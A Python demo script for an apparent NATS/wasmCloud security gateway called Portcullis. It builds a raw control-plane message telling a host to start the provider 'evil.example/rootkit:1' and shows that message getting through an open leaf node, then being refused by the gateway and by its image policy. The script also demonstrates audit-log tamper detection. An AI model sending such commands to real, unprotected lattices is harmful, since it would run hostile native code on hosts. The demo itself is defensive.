"""What scripts/demo shows. Everything is real: nats-server, the gateway, raw sockets; 127.0.0.1 only."""
import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "tests", "support"))
import demo_host  # noqa: E402
from demo_words import SHORT, Failure, bad, brief, check, good, paint, plain, title, typed  # noqa: E402
from portcullis_test import gateway, natsjwt, process, rawclient, server  # noqa: E402

ATTACK_BODY = b'{"host_id":"%s","provider_ref":"evil.example/rootkit:1","link_name":"default"}'


def attack_bytes(host):
    body = ATTACK_BODY % host.encode()
    return b"PUB wasmbus.ctl.default.cmd.%s.lp %d\r\n%s\r\n" % (host.encode(), len(body), body)


def raw_attack(port, first, host):
    """What any code that can open a socket can do. Returns what it was told before the end."""
    raw = rawclient.Raw("127.0.0.1", port)
    raw.line()
    raw.send(first + attack_bytes(host) + b"PING\r\n")
    said = []
    try:
        while True:
            line = raw.line()
            said.append(line.decode())
            if line == b"PONG":
                break
    except rawclient.Failed:
        pass
    raw.close()
    return said


# a policy of our own beside the one that init wrote; a deny beats every allow
OUR_IMAGES = """
# Deployers run only what we built.
lattices = ["default"]
role deployer { account = %s  tags = ["role:deployer"] }
rule only-our-images {
  deny    = [actor.start, actor.scale, actor.update, provider.start]
  to      = [deployer]
  where   { image != ["registry.example/*", "wasmcloud+builtin://*", "file://%s/artifacts/*"] }
  because = "deployers run only what we built"
}
"""


def open_leaf(folder, host):
    title("1. Today: a passwordless leaf")
    leaf = server.NatsServer(server.open_conf(folder))
    try:
        watcher = rawclient.Client("127.0.0.1", leaf.port)
        watcher.subscribe("wasmbus.ctl.>")
        watcher.barrier()
        plain(f"nats-server on 127.0.0.1:{leaf.port}, as hosts reach it: no credentials asked.")
        plain("Any code on the machine writes one line to a socket:")
        plain("  " + attack_bytes(host).split(b"\r\n")[0].decode())
        said = raw_attack(leaf.port, b"", host)
        message = watcher.next()
        check("PONG" in said and message.subject.endswith(".lp"), "the open leaf refused the attack")
        bad(f"ARRIVED  start provider {json.loads(message.payload)['provider_ref']}: native code on the host.")
        watcher.close()
    finally:
        leaf.stop(10)


class Gate:
    """A deployment as `portcullis init` writes it, started."""

    def __init__(self, folder, bin_dir):
        self.dir = os.path.join(folder, "deployment")
        self.listen, leaf_port = server.free_port(), server.free_port()
        self.init = ["portcullis", "init", self.dir, "--listen", f"127.0.0.1:{self.listen}"]
        self.init += ["--leaf", f"127.0.0.1:{leaf_port}"]
        SHORT["file://" + self.dir] = "file://$PWD"
        SHORT[self.dir + "/"] = ""
        self.bin_dir = bin_dir
        subprocess.run([os.path.join(bin_dir, self.init[0])] + self.init[1:], check=True, stdout=subprocess.DEVNULL)
        account = natsjwt.decode(self.creds("deployer")[0])["iss"]
        server.write(os.path.join(self.dir, "policies"), "ours.policy", OUR_IMAGES % (account, self.dir))
        self.leaf = server.NatsServer(os.path.join(self.dir, "leaf.conf"))
        self.gateway = self.host = None
        self.detached = []
        try:
            binary = os.path.join(bin_dir, "portcullis-gateway")
            self.gateway = gateway.Gateway(binary, os.path.join(self.dir, "gateway.conf"))
        except BaseException:
            self.stop()
            raise

    def creds(self, role):
        return natsjwt.read_creds(os.path.join(self.dir, "creds", role + ".creds"))

    def client(self, role):
        return rawclient.Client("127.0.0.1", self.gateway.port, self.creds(role))

    def host_id(self):
        tags = natsjwt.decode(self.creds("host")[0])["nats"]["tags"]
        return next(t for t in tags if t.startswith("host:"))[5:].upper()

    def observer(self):
        """Somebody who holds the leaf's own account key, to look past the gate at what arrives."""
        with open(os.path.join(self.dir, "keys", "upstream.keys"), encoding="ascii") as f:
            line = next(x for x in f if x.strip() and not x.startswith("#"))
        account, user = natsjwt.KeyPair.from_seed(line.split()[1]), natsjwt.KeyPair("user")
        token = natsjwt.mint_user(account, user.public, "observer")
        return rawclient.Client("127.0.0.1", self.leaf.port, (token, user))

    def decisions(self):
        return gateway.json_lines(os.path.join(self.dir, "log", "decisions.jsonl"))

    def stop(self):
        for child in (self.host, self.gateway, self.leaf):
            if child is not None:
                child.stop()


def detach(gate):
    """Start leaf, gateway and host again, writing to files: they outlive this program. Returns their pids."""
    gate.stop()
    pids = gate.detached
    for argv, ready in (
        ([server.find(), "-c", "leaf.conf"], "Server is ready"),
        ([os.path.join(gate.bin_dir, "portcullis-gateway"), "-c", "gateway.conf"], "portcullis-gateway ready"),
        ([os.path.join(gate.bin_dir, "portcullis-host"), "-c", "host.conf"], "portcullis-host ready"),
    ):
        path = os.path.join(gate.dir, "log", os.path.basename(argv[0]) + ".log")
        with open(path, "ab") as log:
            child = subprocess.Popen(
                argv, cwd=gate.dir, stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True
            )
        pids.append(child.pid)
        with open(path, encoding="utf-8", errors="replace") as log:
            said = []
            process.until(lambda p=child, f=log: said.append(f.read()) or ready in "".join(said) or p.poll() is not None, ready)
        check(child.poll() is None, f"{argv[0]} ended: {''.join(said)}")
    gate.host.run_counter(show=False)
    return pids


def refused(name, said, words):
    check(any(words in line for line in said), f"{name}: expected {words}, got {said}")
    good(f"REFUSED  {name:21} {brief(next(line for line in said if words in line))}")


def through_the_gate(gate):
    title("2. With Portcullis: the same leaf behind the gate")
    plain("$ " + " ".join(shlex.quote(w) for w in gate.init))
    plain(f"leaf on 127.0.0.1:{gate.leaf.port} (accepts the gateway alone), gateway on 127.0.0.1:{gate.listen}")
    host_id = gate.host_id()
    watcher = gate.observer()
    watcher.subscribe("wasmbus.ctl.>")
    watcher.barrier()
    host = gate.client("host")
    host.subscribe(f"wasmbus.ctl.default.cmd.{host_id}.*")
    host.barrier()

    plain("The same attack:")
    port = gate.gateway.port
    refused("without CONNECT", raw_attack(port, b"", host_id), "Authorization Violation")
    refused("anonymous CONNECT", raw_attack(port, b"CONNECT {}\r\n", host_id), "Authorization Violation")
    refused("straight to the leaf", raw_attack(gate.leaf.port, b"CONNECT {}\r\n", host_id), "Authorization Violation")
    for role in ("observer", "host"):
        thief = gate.client(role)
        thief.raw.send(attack_bytes(host_id))
        thief.barrier()
        refused(f"stolen {role}.creds", thief.errors, "Permissions Violation")
        thief.close()
    watcher.nothing()
    host.nothing()
    good("SILENCE  an observer straight on the leaf saw none of it; nor did the host.")

    title("3. Who may, does: what the policy lets him run")
    for line in OUR_IMAGES.strip().splitlines()[3:]:
        plain("  " + line.replace("%s", "DIR"))
    deployer = gate.client("deployer")
    inbox = "_INBOX.demo.1"
    deployer.subscribe(inbox)
    deployer.publish(f"wasmbus.ctl.default.cmd.{host_id}.lp", provider(host_id, "evil.example/rootkit:1"), inbox)
    said = json.loads(deployer.next().payload)
    check(said["accepted"] is False and "rule=only-our-images" in said["error"], f"not refused: {said}")
    plain("deployer.creds: start provider evil.example/rootkit:1")
    good(f"REFUSED  {said['error']}")
    host.nothing()
    body = provider(host_id, "registry.example/httpserver:1")
    deployer.publish(f"wasmbus.ctl.default.cmd.{host_id}.lp", body, inbox)
    asked = host.next()
    host.publish(asked.reply, b'{"accepted":true,"error":""}')
    answer = deployer.next()
    check(answer.payload == b'{"accepted":true,"error":""}', "the answer did not come back")
    check(watcher.next().payload == body, "the command did not cross byte for byte")
    plain("deployer.creds: start provider registry.example/httpserver:1")
    good(f"ALLOWED  the host got it byte for byte and answered {answer.payload.decode()}")
    for client in (deployer, host, watcher):
        client.close()


FLOOR = {"census", "limits", "no-new-privs", "landlock", "seccomp"}


def kernel_says(pid):
    """What /proc has of a process: {"Uid": ..., "Seccomp": ..., ...}, the first word of each."""
    with open(f"/proc/{pid}/status", encoding="ascii", errors="replace") as f:
        return {k: (v.split() or [""])[0] for k, _, v in (line.partition(":") for line in f)}


def walls(gate):
    title("6. And whoever breaks into one of the gate's processes has that process, not the gate")
    who = "root" if os.geteuid() == 0 else "an ordinary user"
    plain(f"Started by {who}, each process has locked itself in:")
    tool(gate, "status", "--walls", where=[gate.dir])
    argv = [os.path.join(gate.bin_dir, "portcullis"), "status", "--json", gate.dir]
    done = subprocess.run(argv, capture_output=True, text=True, check=False, timeout=60)
    children = json.loads(done.stdout)["processes"]
    for child in children:
        kernel = kernel_says(child["pid"])
        check(FLOOR <= set(child["walls"]), f"{child['role']} runs below the floor: {child['walls']}")
        check(kernel["Seccomp"] == "2" and kernel["NoNewPrivs"] == "1", f"the kernel says otherwise of {child['role']}")
        check(int(kernel["CapEff"], 16) == 0, f"{child['role']} has capabilities")
    good(f"AGREED   the kernel says so too of all {len(children)}: filtered, no new privileges, no capability.")


def provider(host_id, image):
    return json.dumps({"host_id": host_id, "provider_ref": image, "link_name": "default"}).encode()


def tool(gate, *words, code=0, where=None):
    """Run the tool as a person would, show what was typed and said. Returns what it said."""
    argv = [os.path.join(gate.bin_dir, "portcullis"), *words, *(["-d", gate.dir] if where is None else where)]
    if words[1] == "check-proof":
        argv = argv[:-2]
    return typed(argv, "portcullis " + " ".join(words), code)


def segments(gate):
    folder = os.path.join(gate.dir, "audit")
    return [os.path.join(folder, name) for name in sorted(os.listdir(folder)) if name.endswith(".jsonl")]


def allowed_command(gate):
    """Where in its file the record of the allowed command stands."""
    for path in segments(gate):
        with open(path, "rb") as f:
            for number, line in enumerate(f, 1):
                record = json.loads(line)
                if record["kind"] == "command" and record["decision"] == "allow":
                    return path, number, record
    raise Failure("no record of the allowed command")


def tamper(path, number):
    """One byte: somebody would rather have started another image."""
    with open(path, "rb") as f:
        lines = f.readlines()
    lines[number - 1] = lines[number - 1].replace(b"/httpserver:1", b"/httpserver:2", 1)
    with open(path, "wb") as f:
        f.writelines(lines)


def show(gate):
    """Host and gateway are stopped first: what there was to write is then written and signed."""
    gate.host.stop()
    gate.gateway.stop()
    title("7. What is on record: who, what, allowed or not, and what came of it")
    said = tool(gate, "audit", "tail", "-n", "16")
    check(re.search("observer +denial publish +wasmbus.rpc", said), "no record of the forged call")
    tool(gate, "audit", "query", "--what", "provider.start", "--decision", "allow")
    said = tool(gate, "audit", "query", "--what", "provider.start", "--decision", "deny")
    for who in ("observer", "host"):
        check(len(re.findall(f" {who} +provider.start", said)) == 2, f"not both attempts with {who}.creds are on record")
    path, number, record = allowed_command(gate)
    proof, key = os.path.join(gate.dir, "one.proof"), os.path.join(gate.dir, "keys", "audit.pub")
    title("8. Proved to somebody who has one file and a public key")
    tool(gate, "audit", "prove", record["id"], "-o", proof)
    said = tool(gate, "audit", "check-proof", proof, "-k", key)
    check(record["id"] in said, "the proof does not show the record")
    title("9. And nobody changes it unnoticed")
    kept = os.path.join(gate.dir, "kept-elsewhere")
    shutil.copy(os.path.join(gate.dir, "audit", "checkpoint"), kept)
    tool(gate, "audit", "verify", "--kept", kept)
    tamper(path, number)
    plain("One byte of the file is changed: the image of that record, :1 to :2.")
    said = tool(gate, "audit", "verify", "--kept", kept, code=4)
    check(str(record["seq"]) in said, "verify does not name the record")
    tamper_back(path)


def tamper_back(path):
    with open(path, "rb") as f:
        text = f.read()
    with open(path, "wb") as f:
        f.write(text.replace(b"/httpserver:2", b"/httpserver:1", 1))


def keep(gate):
    d = shlex.quote(gate.dir)
    pids = detach(gate)
    title("Running again, until you stop it. Try:")
    plain(f"build/release/bin/portcullis audit tail -f -d {d}")
    plain(f"tail -f {d}/log/decisions.jsonl")
    plain(f"build/release/bin/portcullis creds show {d}/creds/deployer.creds")
    plain(f"build/release/bin/portcullis creds issue --dir {d} --role observer --name me --out me.creds")
    plain(f"build/release/bin/portcullis check -c {d}/gateway.conf")
    plain(f"build/release/bin/portcullis policy explain --policy {d}/policies --role deployer \\")
    plain("    PUB wasmbus.ctl.default.cmd.NHOST.lp")
    plain(f"curl http://127.0.0.1:{gate.host.port}/visits")
    plain(f"export NATS_URL=nats://127.0.0.1:{gate.listen} NATS_CREDS={d}/creds/deployer.creds")
    plain("build/release/bin/portcullis ctl get inventory")
    plain(f"any NATS client: server nats://127.0.0.1:{gate.listen}, credentials {d}/creds/admin.creds")
    plain(f"stop: kill {pids[2]} {pids[1]} {pids[0]}; then remove {shlex.quote(os.path.dirname(gate.dir))}")


def main():
    bin_dir, stay = os.path.abspath(sys.argv[1]), "--keep" in sys.argv[2:]
    folder = tempfile.mkdtemp(prefix="portcullis-demo-")
    gate, kept = None, False
    try:
        open_leaf(folder, "NDEMOHOST")
        gate = Gate(folder, bin_dir)
        through_the_gate(gate)
        demo_host.story(gate)
        walls(gate)
        show(gate)
        if stay:
            keep(gate)
            kept = True
    except (Failure, process.Failed) as e:
        print(paint("31", f"demo failed: {e}"), file=sys.stderr)
        if gate is not None and gate.gateway is not None:
            print(gate.gateway.tail(10), file=sys.stderr)
        return 1
    finally:
        if gate is not None and not kept:
            for pid in reversed(gate.detached):
                os.kill(pid, signal.SIGTERM)
            gate.stop()
        if not kept:
            shutil.rmtree(folder, ignore_errors=True)
    print()
    return 0


sys.exit(main())
